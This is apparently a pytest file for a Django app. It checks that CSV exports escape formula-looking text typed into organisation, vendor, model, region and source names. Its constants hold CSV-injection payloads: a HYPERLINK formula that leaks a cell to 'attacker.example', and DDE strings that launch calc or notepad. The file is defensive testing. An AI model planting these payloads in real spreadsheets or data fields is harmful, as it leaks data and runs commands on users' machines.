"""CSV exports neutralise formula cells: text a user or a curator typed (an organisation name, vendor, model and
region names, a source's title) that starts with ``=``, ``+``, ``-`` or ``@`` reaches a spreadsheet as text, never
as a formula (OWASP "CSV injection"): the rankings CSV, the planner's CSV, every dashboard chart CSV, and a report's
CSV from its page and from the API.
"""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from django.test import Client

from emissions.models import Source
from reports.models import Organisation, Report
from reports.services.reports import report_generate
from vendors.models import AIModel, Region, Vendor

pytestmark = pytest.mark.django_db

# What a spreadsheet runs as a formula when a cell starts with it (OWASP, CSV injection), tab and CR included.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
ORGANISATION_NAME = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")'
VENDOR_NAME = "@SUM(1+1)*cmd|' /C calc'!A0"
MODEL_NAME = "+cmd|' /C notepad'!A0"
REGION_NAME = "-2+3+cmd|' /C calc'!A0"
SOURCE_TITLE = "=1+1"
CHARTS = ("trend", "vendors", "models", "regions", "tiers", "target")  # the dashboard's charts (dashboard.html)
PERIOD = "?start=2025-01&end=2025-03"


@pytest.fixture
def formula_names(hardening_world):
    """Formula-looking text everywhere an export may echo it; the organisation's name typed into its settings form."""
    client = Client()
    client.force_login(hardening_world.curator)
    form = {"name": ORGANISATION_NAME, "baseline_year": "", "target_year": "", "reduction_target_percent": "",
            "net_zero_year": "", "low_carbon_threshold_g_per_kwh": "100"}  # fmt: skip
    assert client.post("/orgs/acme/settings/", form).status_code == 302
    Vendor.objects.filter(slug="meta").update(name=VENDOR_NAME)
    AIModel.objects.filter(slug="meta/llama-3.1-8b").update(name=MODEL_NAME)
    Region.objects.filter(slug="gcp/us-east4").update(name=REGION_NAME)
    Source.objects.update(title=SOURCE_TITLE)
    report = report_generate(organisation=Organisation.objects.get(slug="acme"), kind="quarterly",
                             period_start=dt.date(2025, 1, 1), user=hardening_world.curator)  # fmt: skip
    return client, report


def cells(response) -> list[str]:
    assert response.status_code == 200, response.content[:300]
    assert response["Content-Type"].startswith("text/csv"), response["Content-Type"]
    text = b"".join(response.streaming_content if response.streaming else [response.content]).decode("utf-8")
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def assert_neutralised(found: list[str], *echoed: str) -> None:
    """No cell starts as a formula, and each formula-looking text the export echoes is in it: written, as text."""
    formulas = [cell for cell in found if cell.startswith(FORMULA_STARTS)]
    assert not formulas, formulas
    for text in echoed:
        assert any(text in cell for cell in found), f"{text!r} is not in the export"


def test_the_rankings_csv_neutralises_vendor_and_model_names(formula_names):
    client, _ = formula_names
    found = cells(client.get("/rankings/?format=csv&task=text-generation"))
    assert_neutralised(found, MODEL_NAME, VENDOR_NAME)
    assert_neutralised(cells(client.get("/rankings/?format=csv&task=text-generation&by=vendor")), VENDOR_NAME)


def test_the_planner_csv_neutralises_model_and_vendor_names(formula_names):
    client, _ = formula_names
    query = "requests_per_month=1000&input_tokens=1000&output_tokens=400&task=text-generation&format=csv"
    assert_neutralised(cells(client.get(f"/procurement/?{query}")), MODEL_NAME, VENDOR_NAME)


@pytest.mark.parametrize("chart", CHARTS)
def test_every_dashboard_chart_csv_neutralises_formula_cells(formula_names, chart):
    client, _ = formula_names
    echoed = {"vendors": [VENDOR_NAME], "models": [MODEL_NAME]}.get(chart, [])  # regions show their slugs
    assert_neutralised(cells(client.get(f"/orgs/acme/export/{chart}.csv{PERIOD}")), *echoed)


def test_the_report_csv_neutralises_the_organisation_name_names_and_sources(formula_names):
    client, report = formula_names
    assert Report.objects.filter(pk=report.pk).exists()
    echoed = (ORGANISATION_NAME, VENDOR_NAME, MODEL_NAME, SOURCE_TITLE)
    assert_neutralised(cells(client.get(f"/orgs/acme/reports/{report.pk}.csv")), *echoed)


def test_the_report_csv_from_the_api_neutralises_it_too(formula_names, hardening_world):
    _, report = formula_names
    response = Client().get(f"/api/v1/orgs/acme/reports/{report.pk}.csv",
                            HTTP_AUTHORIZATION=f"Bearer {hardening_world.token}")  # fmt: skip
    assert_neutralised(cells(response), ORGANISATION_NAME, VENDOR_NAME, MODEL_NAME, SOURCE_TITLE)
